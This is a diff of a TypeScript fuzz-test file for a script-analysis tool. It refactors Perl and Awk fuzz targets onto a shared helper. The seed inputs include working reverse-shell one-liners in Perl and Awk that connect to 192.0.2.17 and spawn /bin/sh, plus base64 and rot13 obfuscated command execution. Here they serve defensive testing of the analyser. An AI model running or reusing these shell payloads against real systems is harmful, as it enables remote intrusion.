@@ -1,11 +1,10 @@
-import type { LanguageReader } from '../../src/trace/language.ts';
 import { awk } from '../../src/trace/languages/awk/awk.ts';
 import { perl } from '../../src/trace/languages/perl/perl.ts';
-import { known } from '../../src/trace/value.ts';
-import { type FuzzTarget, invariant } from './target.ts';
+import { scriptTarget } from './script-targets.ts';
+import type { FuzzTarget } from './target.ts';
 
-/** Perl code: never throws, keeps to its budget, nested code belongs to commands that exist, the same each time. */
-export const perlTarget: FuzzTarget = target('perl', perl, [
+/** Perl. */
+export const perlTarget: FuzzTarget = scriptTarget(perl, [
   'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(8443,inet_aton("192.0.2.17")));open(STDIN,">&S");exec("/bin/sh -i");\n',
   'use MIME::Base64; eval decode_base64("c3lzdGVtICJpZCI7"); $_ = "vq"; y/a-z/n-za-m/; system $_ unless m{x}i;\n',
   'my %h = (a => [1, { b => sub { system @_ } }]); $h{a}[1]{b}->("id"); print <<"A", <<~\'B\';\n$h{x} @{[ map { chr } 1..3 ]}\nA\n  b\n  B\n',
@@ -13,40 +12,9 @@ export const perlTarget: FuzzTarget = target('perl', perl, [
   'package A { sub new { bless {}, shift } } my $o = A->new(x => 1 // 2); for my $i (0 .. $#{$o->{l}}) { last if $i > 3 } format X =\n@<<\n$a\n.\n',
 ]);
 
-/** Awk code, in the same way. */
-export const awkTarget: FuzzTarget = target('awk', awk, [
+/** Awk. */
+export const awkTarget: FuzzTarget = scriptTarget(awk, [
   'BEGIN { s = "/inet/tcp/0/192.0.2.17/1496"; while ((s |& getline c) > 0) { while ((c | getline r) > 0) print r |& s } }\n',
   'function f(a, b) { return a / b } /x[/]y/ && $3 > 2, NR == 5 { print $1, f($2, 3) > "/tmp/x"; next } END { system("id") }\n',
   'BEGIN { n = split("105 100", a, / /); for (i in a) c = c sprintf("%c", a[i]); gsub(/[a-z]+/, "<&>", c); printf("%s\\n", c) | "sh" }\n',
 ]);
-
-function target(name: string, reader: LanguageReader, seeds: readonly string[]): FuzzTarget {
-  return {
-    name,
-    slowest: 3_000,
-    seeds: () => seeds.map((text) => Buffer.from(text)),
-    async run(input) {
-      await reader.prepare();
-      const text = new TextDecoder().decode(input);
-      const once = (): string => {
-        const budget = { steps: 200_000, decodedBytes: 1_000_000, commands: 2_000 };
-        const reading = reader.read({
-          text,
-          args: [known('x')],
-          env: new Map(),
-          cwd: '/',
-          readFile: () => undefined,
-          budget,
-        });
-        invariant(reading.commands.length <= 2_000, 'more commands than allowed');
-        for (const { command } of reading.nested) {
-          invariant(command === undefined || reading.commands[command] !== undefined, 'nested code of no command');
-        }
-        for (const { line } of reading.effects) invariant(line >= 1, `no such line: ${line}`);
-        return JSON.stringify(reading);
-      };
-      const first = once();
-      invariant(first === once(), 'not the same twice');
-    },
-  };
-}
